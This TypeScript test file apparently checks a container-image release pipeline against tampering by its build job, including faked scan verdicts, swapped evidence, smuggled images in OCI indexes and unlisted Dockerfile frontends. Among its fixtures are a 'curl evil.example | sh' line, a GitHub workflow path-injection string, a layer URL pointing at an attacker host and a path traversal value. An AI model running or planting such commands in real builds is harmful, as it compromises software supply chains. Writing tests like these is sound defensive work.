/**
 * The base image and all that the Dockerfile downloads run in the build job: they write the layout, a `# syntax=` frontend
 * the index in it, and in the worst case the evidence of their own leg.
 */
import { digestOf } from '@sealift/core/image/digest';
import type { ScanPart } from '@sealift/core/release/record';
import { type Json, type LayoutWriter, layoutWriter, MEDIA } from '@sealift/testing/image-layouts';
import { type Attack, inert, play, refused } from './attack.ts';
import { release } from './scenes.ts';
import type { Moment, ReleaseWorld } from './world.ts';

type Case = Attack<ReleaseWorld, Moment>;
const COUNTS = { UNKNOWN: 0, LOW: 0, MEDIUM: 0, HIGH: 0, CRITICAL: 0 };

/** The verdict of a leg, written by code that ran in its build job. */
const verdict = (tries: string, scan: Partial<ScanPart>, cause: RegExp): Case => ({
  tries: `writes ${tries}`,
  against: 'build',
  does: (world) => {
    world.build.scan = scan;
  },
  outcome: refused('evidence/refused', cause),
});
const database = {
  version: 2,
  updatedAt: '2026-11-01T00:00:00Z',
  digest: `sha256:${'d'.repeat(64)}`,
  repository: 'mirror.gcr.io/aquasec/trivy-db:2',
} as const;
const verdicts: readonly Case[] = [
  verdict(
    'a pass over 999 critical findings',
    { counts: { ...COUNTS, CRITICAL: 999 } },
    /counts come to 999/,
  ),
  verdict('a pass with three findings that block', { blocking: 3 }, /passed with 3 blocking/),
  verdict(
    'a pass under a severity of its own',
    { policy: { threshold: 'CRITICAL', fixableOnly: true, blind: 'auto' } },
    /severity "CRITICAL" instead of "HIGH"/,
  ),
  verdict(
    'a pass that forgives what the scanner could not see',
    { policy: { threshold: 'HIGH', fixableOnly: true, blind: 'warn' } },
    /blind "warn" instead of "auto"/,
  ),
  verdict(
    'a pass with an ignore file of its own',
    { policy: { threshold: 'HIGH', fixableOnly: true, blind: 'auto', ignoreFiles: [digestOf('all')] } },
    /ignore files/,
  ),
  verdict(
    'a pass that leaves more out of account than was found',
    { spared: { accepted: COUNTS, unfixed: { ...COUNTS, CRITICAL: 5 } } },
    /more CRITICAL findings are left out of account/,
  ),
  verdict(
    'a pass over accepted risks without an ignore file',
    {
      ignored: 1,
      counts: { ...COUNTS, HIGH: 1 },
      spared: { accepted: { ...COUNTS, HIGH: 1 }, unfixed: COUNTS },
    },
    /without an ignore file/,
  ),
  verdict(
    'a pass by an accepted risk that had run out',
    {
      suppressions: [{ kind: 'vulnerability', id: 'CVE-1', findings: 0, expiresAt: '2026-01-01T00:00:00Z' }],
    },
    /CVE-1 had run out/,
  ),
  verdict(
    'a pass that names findings that it does not count',
    { findings: [{ id: 'CVE-1', package: 'x', version: '1', severity: 'CRITICAL', fixedVersion: '2' }] },
    /names more CRITICAL findings than it counts/,
  ),
  verdict('a scan of the year 2099', { scannedAt: '2099-01-01T00:00:00Z' }, /in the future/),
  verdict(
    'a scan of last year',
    { scannedAt: '2025-11-02T00:00:00Z' },
    /more than 72 hours ago|after the scan/,
  ),
  verdict(
    'a database of the year 1999',
    { database: { ...database, updatedAt: '1999-01-01T00:00:00Z' } },
    /was more than 168 hours old/,
  ),
  verdict(
    'a database of the year 2099',
    { database: { ...database, updatedAt: '2099-01-01T00:00:00Z' } },
    /after the scan/,
  ),
  verdict(
    'a database of another schema',
    { database: { ...database, version: 1 } },
    /version 1 instead of 2/,
  ),
  verdict(
    'an empty database',
    { database: { ...database, digest: digestOf('') } },
    /empty or of no known origin/,
  ),
  verdict('a scanner of no version', { scanner: { name: 'trivy', version: 'none' } }, /is not known/),
];

const files = (tries: string, change: Readonly<Record<string, string>>, outcome: Case['outcome']): Case => ({
  tries,
  against: 'build',
  does: (world) => {
    world.build.files = change;
  },
  outcome,
});
const evidence: readonly Case[] = [
  files(
    'writes a record of its own release',
    { 'record.json': '{}' },
    refused('record/malformed', /record\.json/),
  ),
  files(
    'writes who signed',
    {
      'sign.json': JSON.stringify({
        signer: { identity: 'x', issuer: 'x', sourceRepository: 'a/b', sourceRef: 'refs/heads/main' },
        entries: [],
      }),
    },
    refused('evidence/not-planned', /a build makes no sign\.json/),
  ),
  files('writes a scan that is no JSON', { 'scan.json': '{' }, refused('record/malformed', /scan\.json/)),
  files(
    'changes the SBOM after it was made',
    { 'sbom.spdx.json': '{"spdxVersion":"SPDX-2.3","packages":[]}' },
    refused('evidence/untrusted', /was changed after it was written/),
  ),
  files(
    'writes a second scan beside the first',
    { 'scan.linux-amd64.json': '{}' },
    refused('record/malformed', /scan/),
  ),
  files(
    'leaves files beside the evidence',
    { 'notes.txt': '::add-path::/tmp/evil', 'run.sh': 'curl evil.example | sh' },
    inert('released', { says: /notes\.txt/ }),
  ),
  {
    tries: 'says which evidence is that of another platform',
    against: 'evidence',
    does: (world) => {
      const { 'evidence-0': first = '', 'evidence-1': second = '' } = world.outputs;
      world.outputs = { 'evidence-0': second, 'evidence-1': first };
    },
    outcome: refused('evidence/not-planned', /is for linux\/arm64/),
  },
  {
    tries: 'says nothing of its evidence',
    against: 'evidence',
    does: (world) => {
      world.outputs['evidence-1'] = '';
    },
    outcome: refused('evidence/unbound', /linux\/arm64/),
  },
  {
    tries: 'says that two platforms have the same evidence',
    against: 'evidence',
    does: (world) => {
      world.outputs['evidence-1'] = world.outputs['evidence-0'] ?? '';
    },
    outcome: refused('evidence/bad-binding', /the same evidence/),
  },
  {
    tries: 'says that a platform has evidence that nobody planned',
    against: 'evidence',
    does: (world) => {
      world.outputs['evidence-2'] = digestOf('more');
    },
    outcome: refused('evidence/bad-binding', /nothing is planned/),
  },
  {
    tries: 'writes no digest into its output',
    against: 'evidence',
    does: (world) => {
      world.outputs['evidence-0'] = '../../x';
    },
    outcome: refused('evidence/bad-binding', /no sha256 digest/),
  },
];

/** An index as a `# syntax=` frontend can have BuildKit write it: an honest image, and what stands beside it. */
const index = (
  tries: string,
  entries: (writer: LayoutWriter, honest: Json & { digest: `sha256:${string}` }) => Promise<readonly Json[]>,
  outcome: Case['outcome'],
): Case => ({
  tries,
  against: 'build',
  does: (world) => {
    world.build.layout = async (architecture) => {
      const writer = await layoutWriter();
      const honest = await writer.image('linux', architecture);
      const root = await writer.index(await entries(writer, honest));
      await writer.finish(root);
      return { directory: writer.directory, root: root.digest, image: honest.digest };
    };
  },
  outcome,
});
const posing = (subject: string) => ({
  'vnd.docker.reference.digest': subject,
  'vnd.docker.reference.type': 'attestation-manifest',
});
const UNKNOWN = { os: 'unknown', architecture: 'unknown' };
const indexes: readonly Case[] = [
  index(
    'hides the image of another platform as an attestation',
    async (writer, honest) => [
      honest,
      { ...(await writer.image('linux', 's390x')), annotations: posing(honest.digest) },
    ],
    refused('image/other-platforms', /s390x/),
  ),
  index(
    'puts a second image of the same platform first, as an attestation',
    async (writer, honest) => [
      {
        ...(await writer.image('linux', 'amd64', Buffer.from('backdoor'))),
        platform: honest['platform'],
        annotations: posing(honest.digest),
      },
      honest,
    ],
    refused('registry/bad-layout', /two images|announced/),
  ),
  index(
    'hides an image behind an unknown platform',
    async (writer, honest) => [
      honest,
      {
        ...(await writer.image('linux', 'amd64', Buffer.from('backdoor'))),
        platform: UNKNOWN,
        annotations: posing(honest.digest),
      },
    ],
    refused('registry/bad-layout', /announced for unknown/),
  ),
  index(
    'hides an image behind an unknown platform in its config too',
    async (writer, honest) => [
      honest,
      {
        ...(await writer.image('unknown', 'unknown', Buffer.from('backdoor'))),
        annotations: posing(honest.digest),
      },
    ],
    refused('registry/bad-layout', /nor is it an attestation/),
  ),
  index(
    'attests something that is not there',
    async (writer, honest) => [honest, await writer.attestation(digestOf('elsewhere'))],
    refused('registry/bad-layout', /which is not in it/),
  ),
  index(
    'lists an index in the index',
    async (writer, honest) => [
      honest,
      await writer.index([await writer.image('linux', 'amd64', Buffer.from('backdoor'))]),
    ],
    refused('registry/bad-layout', /is an index itself/),
  ),
  index(
    'lists what is of no known kind',
    async (writer, honest) => [
      honest,
      {
        ...(await writer.add('application/vnd.evil+json', { a: 1 })),
        platform: { os: 'linux', architecture: 'arm64' },
      },
    ],
    refused('registry/bad-layout', /unknown media type/),
  ),
  index(
    'adds an image for a platform that nobody planned',
    async (writer, honest) => [honest, await writer.image('linux', 's390x')],
    refused('image/other-platforms', /also for linux\/s390x/),
  ),
  index(
    'announces an image for another platform than it is configured for',
    async (_, honest) => [{ ...honest, platform: { os: 'linux', architecture: 's390x' } }],
    refused('registry/bad-layout', /is announced for linux\/s390x/),
  ),
  index('leaves the index empty', async () => [], refused('registry/bad-layout', /no image of any platform/)),
  index(
    'announces another size than the image has',
    async (_, honest) => [{ ...honest, size: 1 }],
    refused('registry/bad-layout', /bytes/),
  ),
  index(
    'has a layer fetched from its own server',
    async (writer) => {
      const config = await writer.add(MEDIA.config, {
        os: 'linux',
        architecture: 'amd64',
        rootfs: { type: 'layers', diff_ids: [] },
      });
      const layer = await writer.add(
        'application/vnd.oci.image.layer.nondistributable.v1.tar+gzip',
        Buffer.from('x'),
      );
      const layers = [{ ...layer, urls: ['https://evil.example/layer'] }];
      return [
        await writer.add(MEDIA.manifest, { schemaVersion: 2, mediaType: MEDIA.manifest, config, layers }),
      ];
    },
    refused('registry/bad-layout', /may not be distributed/),
  ),
];

const EVIL = {
  frontends: [
    {
      reference: 'docker.io/evil/dockerfile:1',
      uri: 'pkg:docker/evil/dockerfile@1',
      digest: digestOf('frontend'),
      pinned: false,
    },
  ],
  bases: [
    {
      reference: 'docker.io/library/debian:13',
      uri: 'pkg:docker/debian@13',
      digest: digestOf('base'),
      pinned: false,
    },
  ],
};
/** @param asked of the step that signs */
const sources = (tries: string, asked: Readonly<Record<string, string>>, cause: RegExp): Case => ({
  tries,
  against: 'build',
  does: (world) => {
    world.build.sources = EVIL;
    world.inputs.sign = { ...asked };
  },
  outcome: refused('sign/refused-source', cause),
});
const built: readonly Case[] = [
  sources(
    'is built by a frontend that is not on the list',
    { frontends: 'docker/dockerfile' },
    /evil\/dockerfile:1" is not among/,
  ),
  sources(
    'is built by a frontend whose name begins like one on the list',
    { frontends: 'docker.io/evil/dockerfile:1.0' },
    /is not among/,
  ),
  sources('is built from a base that moves', { 'require-pinned-bases': 'fail' }, /debian:13" is not pinned/),
  {
    tries: 'says nothing of what it was built with, where that is judged',
    against: 'build',
    does: (world) => {
      world.build.sources = 'unsaid';
      world.inputs.sign = { frontends: 'docker/dockerfile' };
    },
    outcome: refused('sign/refused-source', /does not say what it was built with/),
  },
];

play('base image, and what the Dockerfile downloads', release, [
  ...verdicts,
  ...evidence,
  ...indexes,
  ...built,
]);
